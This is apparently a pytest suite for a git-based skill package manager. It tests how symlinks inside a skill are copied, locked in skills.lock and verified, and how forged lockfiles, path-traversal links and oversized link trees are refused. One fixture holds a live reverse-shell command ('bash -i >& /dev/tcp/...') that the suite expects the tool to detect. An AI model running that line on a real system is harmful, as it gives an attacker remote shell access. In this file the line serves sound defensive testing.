"""Links of a skill to elsewhere in its repository: copied from the same commit, locked, and proved like the folder."""

import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from fetchers.world import Project
from kit import GitServer, Repository, make_skill, prefix_paths

SHARED = {"common/a.md": "a\n", "common/sub/b.md": "b\n", "bin/run.sh": "#!/bin/sh\n"}
LINKS = {
    "skills/with/common": "../../common",
    "skills/with/docs/b.md": "../../../common/sub/b.md",
    "skills/with/run.sh": "../../bin/run.sh",
}
INSTALLED = {
    "SKILL.md": "100644",
    "common/a.md": "100644",
    "common/sub/b.md": "100644",
    "docs/b.md": "100644",
    "run.sh": "100755",
}


def encoded(files: dict[str, str]) -> dict[str, bytes]:
    return {path: text.encode() for path, text in files.items()}


@pytest.fixture
def url(upstream: Repository, server: GitServer) -> str:
    upstream.write(
        prefix_paths("skills/with", make_skill("with")) | encoded(SHARED), symlinks=LINKS, executable=["bin/run.sh"]
    )
    upstream.write(prefix_paths("docs", {"linked.md": make_skill("linked")["SKILL.md"]}))
    upstream.write(symlinks={"skills/linked/SKILL.md": "../../docs/linked.md"})
    upstream.commit()
    return server.serve("acme/skills", upstream)


def locked(project: Project, name: str = "with") -> dict[str, Any]:
    skill: dict[str, Any] = json.loads(project.read("skills.lock"))["skills"][name]
    return skill


def modes(project: Project, name: str = "with") -> dict[str, str]:
    return {path: mode for path, (mode, _) in project.installed_files(name).items()}


def test_the_targets_are_copied_and_locked(project: Project, upstream: Repository, url: str) -> None:
    project.run("install", f"{url}@with", f"{url}@linked", check=True)

    assert modes(project) == INSTALLED
    assert modes(project, "linked") == {"SKILL.md": "100644"}
    assert locked(project)["source"]["links"] == {
        "bin/run.sh": f"100755 {upstream.resolve('main:bin/run.sh')}",
        "common": f"040000 {upstream.resolve('main:common')}",
        "common/sub/b.md": f"100644 {upstream.resolve('main:common/sub/b.md')}",
    }
    assert locked(project, "linked")["source"]["links"] == {
        "docs/linked.md": f"100644 {upstream.resolve('main:docs/linked.md')}"
    }


@pytest.mark.parametrize("config", ["with filters", "without filters"])
@pytest.mark.parametrize("pinned", ["", "#COMMIT", "#v1"])
def test_another_machine_gets_the_same(
    project: Project,
    upstream: Repository,
    url: str,
    server: GitServer,
    tmp_path: Path,
    pinned: str,
    config: str,
) -> None:
    upstream.tag("v1")
    if config == "without filters":
        (upstream.git_dir / "config").write_text("[core]\n\tbare = true\n\trepositoryformatversion = 0\n")
    project.run("install", f"{url}{pinned.replace('COMMIT', upstream.resolve('main'))}@with", check=True)
    upstream.write({"common/a.md": "new\n"}).commit()
    other = project.clone(tmp_path / "other")

    for words in (["sync", "--frozen"], ["verify"], ["lock", "--check"], ["list"], ["sync", "--frozen", "--offline"]):
        other.run(*words, check=True)

    assert other.installed_files("with") == project.installed_files("with")
    assert other.read("skills.lock") == project.read("skills.lock")


def test_a_change_of_a_target_is_a_new_version(project: Project, upstream: Repository, url: str) -> None:
    project.run("install", f"{url}@with", f"{url}@linked", check=True)
    old = upstream.resolve("main")[:7]
    upstream.write({"README.md": "elsewhere\n"}).commit()
    assert "up to date" in project.run("outdated", check=True).stderr

    upstream.write({"common/sub/b.md": "changed\n"}).commit()
    new = upstream.resolve("main")[:7]
    outdated = project.run("outdated", check=True).stdout
    assert [line.split()[:3] for line in outdated.splitlines()[1:]] == [["with", old, new]]
    diff = project.run("diff", "with", "--update").stdout
    assert ("+changed" in diff, "common/sub/b.md" in diff, "docs/b.md" in diff) == (True, True, True)
    project.run("update", check=True)

    assert project.read(".agent-skills/with/common/sub/b.md") == "changed\n"
    assert project.read(".agent-skills/with/docs/b.md") == "changed\n"
    assert locked(project, "linked")["source"]["commit"].startswith(old)
    project.run("verify", check=True)


def test_an_executable_bit_of_a_target_is_a_new_version(project: Project, upstream: Repository, url: str) -> None:
    project.run("install", f"{url}@with", check=True)
    upstream.write({"bin/run.sh": "#!/bin/sh\n"}).commit()
    project.run("update", check=True)

    assert modes(project)["run.sh"] == "100644"


@pytest.mark.parametrize(
    "words",
    [
        ["show", "SPEC"],
        ["load", "SPEC"],
        ["audit", "SPEC"],
        ["install", "SPEC", "--dry-run"],
        ["install", "SPEC", "-g"],
        ["install", "URL", "--all"],
    ],
    ids=" ".join,
)
def test_every_command_reads_them(project: Project, url: str, words: list[str]) -> None:
    result = project.run(*(word.replace("SPEC", f"{url}@with").replace("URL", url) for word in words))

    assert result.code == 0, result.stderr


def test_a_member_of_a_workspace_has_them(project: Project, url: str) -> None:
    project.write("skills.json", '{"skills": {}, "members": ["packages/*"]}')
    requirement = json.dumps({"skills": {"with": {"git": url, "path": "skills/with"}}})
    project.write("packages/one/skills.json", requirement)
    project.run("sync", check=True)

    assert locked(project)["source"]["links"].keys() == {"bin/run.sh", "common", "common/sub/b.md"}
    project.run("sync", "--frozen", check=True)


def test_a_mirror_has_the_copies(project: Project, url: str, upstream: Repository, tmp_path: Path) -> None:
    project.run("install", f"{url}@with", check=True)
    project.run("mirror", "skills.lock", str(tmp_path / "mirror"), check=True)
    shutil.rmtree(upstream.git_dir)
    other = project.clone(tmp_path / "other")
    other.run("sync", "--frozen", env={"SKILLPM_REPLACE": str(tmp_path / "mirror")}, check=True)

    assert modes(other) == INSTALLED


# What a lockfile claims


@pytest.mark.parametrize("cache", ["cold", "warm"])
@pytest.mark.parametrize(
    ("forgery", "key"),
    [
        ("another file", "source.links"),
        ("another folder", "source.links"),
        ("executable", "source.links"),
        ("a missing path", "source.links"),
        ("one more", "source.links"),
        ("one less", "source.links"),
        ("none", "source.links"),
    ],
)
def test_a_forged_target_is_refused(
    project: Project, upstream: Repository, url: str, tmp_path: Path, forgery: str, key: str, cache: str
) -> None:
    upstream.branch("pull/7")
    upstream.write({"common/sub/b.md": "evil\n"}).commit(branch="pull/7")
    evil_file, evil_folder = upstream.resolve("pull/7:common/sub/b.md"), upstream.resolve("pull/7:common")
    project.run("install", f"{url}#pull/7@with", check=True)
    digest = locked(project)["digest"]
    shutil.rmtree(project.work / ".agent-skills")
    project.write("skills.json", '{"skills": {}}')
    (project.work / "skills.lock").unlink()
    project.run("install", f"{url}@with", check=True)
    victim = project.clone(tmp_path / "victim")
    document = json.loads(victim.read("skills.lock"))
    skill = document["skills"]["with"]
    links = skill["source"]["links"]
    match forgery:
        case "another file":
            links["common/sub/b.md"] = f"100644 {evil_file}"
        case "another folder":
            links |= {"common": f"040000 {evil_folder}", "common/sub/b.md": f"100644 {evil_file}"}
            skill["digest"] = digest
        case "executable":
            links["common/sub/b.md"] = links["common/sub/b.md"].replace("100644", "100755")
        case "a missing path":
            links["nowhere"] = links["common"]
        case "one more":
            links["docs"] = f"040000 {upstream.resolve('main:docs')}"
        case "one less":
            del links["common"]
        case "none":
            del skill["source"]["links"]
    victim.write("skills.lock", json.dumps(document))
    before = victim.snapshot()
    env = {} if cache == "cold" else {"SKILLPM_CACHE_DIR": str(project.cache)}

    for words in (["sync", "--frozen"], ["sync", "--locked"], ["sync"], ["lock", "--check"]):
        result = victim.run(*words, env=env)
        assert (result.code, "does not match the lockfile" in result.stderr) == (1, True), result.stderr
        assert key in result.stderr
    assert victim.snapshot() == before


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ({"../x": f"040000 {'a' * 40}"}, "has an empty, `.` or `..` part"),
        ({"x": "040000"}, "expected 040000, 100644 or 100755, and a full object id"),
        ({"x": f"120000 {'a' * 40}"}, "expected 040000, 100644 or 100755, and a full object id"),
        ([], "expected an object"),
    ],
)
def test_invalid_links_in_a_lockfile_are_refused(project: Project, url: str, value: Any, message: str) -> None:
    project.run("install", f"{url}@with", check=True)
    document = json.loads(project.read("skills.lock"))
    document["skills"]["with"]["source"]["links"] = value
    project.write("skills.lock", json.dumps(document))

    result = project.run("sync", "--frozen")
    assert (result.code, message in result.stderr) == (1, True), result.stderr


# What is refused

REFUSED = {
    "to an ancestor": ({"skills/bad/l": "../.."}, "l' -> '../..' points to a folder that contains the skill"),
    "to the folder of all skills": ({"skills/bad/l": ".."}, "l' -> '..' points to a folder that contains the skill"),
    "to itself": ({"skills/bad/l": "../bad"}, "l' -> '../bad' points to a folder that contains the skill"),
    "to itself from inside": ({"skills/bad/d/l": ".."}, "d/l' -> '..' points to the skill itself"),
    "out of the repository": ({"skills/bad/l": "../../../x"}, "l' -> '../../../x' points outside the repository"),
    "absolute": ({"skills/bad/l": "/etc/passwd"}, "l' -> '/etc/passwd' points outside the skill"),
    "to nothing": ({"skills/bad/l": "../../nowhere"}, "l' -> '../../nowhere' points to a missing file"),
    "below a file": ({"skills/bad/l": "../../README.md/x"}, "l' -> '../../README.md/x' points to a missing file"),
    "to a link": (
        {"skills/bad/l": "../../other", "other": "common"},
        "l' -> '../../other' leads to another link, 'other'",
    ),
    "through a link": (
        {"skills/bad/l": "../../other/a.md", "other": "common"},
        "l' -> '../../other/a.md' leads to another link, 'other'",
    ),
    "to a folder with a link": (
        {"skills/bad/l": "../../tree", "tree/x": "../common/a.md"},
        "l' -> '../../tree' leads to a folder with another link, 'x'",
    ),
    "a link to a link that leads out": (
        {"skills/bad/l": "m", "skills/bad/m": "../../common"},
        "l' -> 'm' passes through a link that leads out of the skill",
    ),
    "up again": (
        {"skills/bad/l": "../../bin/../README.md"},
        "l' -> '../../bin/../README.md' points outside the skill",
    ),
    "over its own file": (
        {"skills/bad/L": "../../common", "skills/bad/l": "../../common"},
        "are the same on some systems",
    ),
}


@pytest.mark.parametrize("how", REFUSED)
def test_a_link_that_cannot_be_copied_is_refused(
    project: Project, upstream: Repository, server: GitServer, how: str
) -> None:
    symlinks, reason = REFUSED[how]
    upstream.write(prefix_paths("skills/bad", make_skill("bad")) | SHARED | {"README.md": "x\n"}, symlinks=symlinks)
    upstream.commit()
    url = server.serve("acme/skills", upstream)

    result = project.run("install", f"{url}@bad")
    assert (result.code, reason in result.stderr) == (1, True), result.stderr
    assert result.stderr.splitlines()[0].startswith("error: skill bad: ")
    assert project.is_untouched


def test_a_link_into_a_submodule_is_refused(project: Project, upstream: Repository, server: GitServer) -> None:
    upstream.write(prefix_paths("skills/bad", make_skill("bad")), symlinks={"skills/bad/l": "../../module/x"}).commit()
    skills = upstream.tree_id("skills")
    upstream.commit_tree(upstream.store_tree([("160000", "module", "1" * 40), ("40000", "skills", skills)]))

    result = project.run("install", f"{server.serve('acme/skills', upstream)}@bad")
    assert result.stderr.splitlines()[0] == (
        "error: skill bad: link 'l' -> '../../module/x' leads into the submodule 'module'"
    )


@pytest.mark.parametrize(
    ("limits", "message"),
    [
        ({"SKILLPM_MAX_SKILL": "3000000"}, "all files together are over 3000000 bytes"),
        ({"SKILLPM_MAX_FILES": "40"}, "more than 40 files"),
        ({"SKILLPM_MAX_FILE": "90000"}, "'0' is over 90000 bytes"),
    ],
)
def test_limits_count_the_copies(
    project: Project, upstream: Repository, server: GitServer, limits: dict[str, str], message: str
) -> None:
    """500 links to a folder of 1 MB: 1 MB in git, 500 MB if it were written."""
    upstream.write({f"big/{number}": bytes([number]) * 100_000 for number in range(10)})
    upstream.write(prefix_paths("skills/many", make_skill("many")))
    upstream.write(symlinks={f"skills/many/l{number:03}": "../../big" for number in range(500)}).commit()
    url = server.serve("acme/skills", upstream)

    result = project.run("install", f"{url}@many", env=limits)
    assert (result.code, message in result.stderr) == (1, True), result.stderr
    assert project.is_untouched
    assert sum(file.stat().st_size for file in project.cache.rglob("*") if file.is_file()) < 3_000_000

    result = project.run("install", f"{url}@many")  # with the default limits, too
    assert (result.code, "all files together are over 100000000 bytes" in result.stderr) == (1, True), result.stderr


@pytest.mark.parametrize(
    ("target", "files", "message"),
    [
        ("../../plugin", {"plugin/.claude-plugin/plugin.json": "{}"}, None),
        ("../../plugin/.claude-plugin", {"plugin/.claude-plugin/plugin.json": "{}"}, "host-manifest"),
        ("../../shell", {"shell/x.sh": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"}, "reverse-shell"),
    ],
)
def test_the_result_passes_the_same_checks(
    project: Project,
    upstream: Repository,
    server: GitServer,
    target: str,
    files: dict[str, str],
    message: str | None,
) -> None:
    link = "skills/x/.claude-plugin" if target.endswith(".claude-plugin") else "skills/x/l"
    upstream.write(prefix_paths("skills/x", make_skill("x")) | encoded(files), symlinks={link: target}).commit()

    result = project.run("install", f"{server.serve('acme/skills', upstream)}@x")
    assert (result.code, message is None or message in result.stderr) == (0 if message is None else 1, True)
    assert message is None or project.is_untouched


@pytest.mark.parametrize("words", [["pack"], ["validate"], ["install"], ["index", "build", "--out", "public"]])
def test_a_local_folder_never_has_what_is_outside(project: Project, words: list[str]) -> None:
    project.write(".env", "SECRET=1\n")
    for path, content in prefix_paths("skills/x", make_skill("x", metadata={"version": "1.0.0"})).items():
        project.write(path, content)
    (project.work / "skills/x/docs").symlink_to("../../.env")

    result = project.run(*words[:1], *words[1:2], "./skills/x", *words[2:])
    assert result.code == 1
    assert "points outside the skill" in result.stderr + result.stdout


def test_index_build_from_git_refuses_them(project: Project, url: str) -> None:
    result = project.run("index", "build", f"git+{url}", "--out", "public")

    assert "points outside the skill" in result.stderr
    assert not project.exists("public/skills/with")


def test_files_leave_links_out(project: Project, url: str) -> None:
    project.run("install", f"{url}@with", "--files", "*", "--files", "!/common", check=True)

    assert modes(project).keys() == INSTALLED.keys() - {"common/a.md", "common/sub/b.md"}
    assert locked(project)["source"]["links"].keys() == {"bin/run.sh", "common/sub/b.md"}


# A skill that is the whole repository

SELF = {
    "in a host's folder": {".agents/skills/rootself": "../.."},
    "in two": {".agents/skills/rootself": "../..", ".claude/skills/rootself": "../../.agents/skills/rootself"},
    "in a linked folder": {".agents/skills/rootself": "../..", ".claude/skills": "../.agents/skills"},
    "with the name of the folder": {".agents/skills/rootself": "../../"},
}


@pytest.mark.parametrize("how", SELF)
def test_links_of_a_root_skill_to_itself_are_left_out(
    project: Project, upstream: Repository, server: GitServer, tmp_path: Path, how: str
) -> None:
    upstream.write(make_skill("rootself") | {"docs/a.md": "a\n"}, symlinks=SELF[how] | {"b.md": "docs/a.md"}).commit()
    url = server.serve("acme/rootself", upstream)

    result = project.run("install", f"{url}@rootself", check=True)
    left_out = [path for path in SELF[how] if path != ".claude/skills"] + [
        path for path in SELF[how] if path == ".claude/skills"
    ]
    assert [line for line in result.stderr.splitlines() if line.startswith("warning")] == [
        f"warning: rootself: left out the link `{path}`, which leads to the skill itself" for path in left_out
    ]
    assert modes(project, "rootself").keys() == {"SKILL.md", "docs/a.md", "b.md"}
    assert locked(project, "rootself")["source"]["files"] == ["*", *(f"!/{path}" for path in left_out)]
    other = project.clone(tmp_path / "other")
    for words in (["sync", "--frozen"], ["verify"], ["lock", "--check"], ["outdated"], ["update"]):
        done = other.run(*words, check=True)
        assert "left out" not in done.stderr
    assert other.read("skills.lock") == project.read("skills.lock")
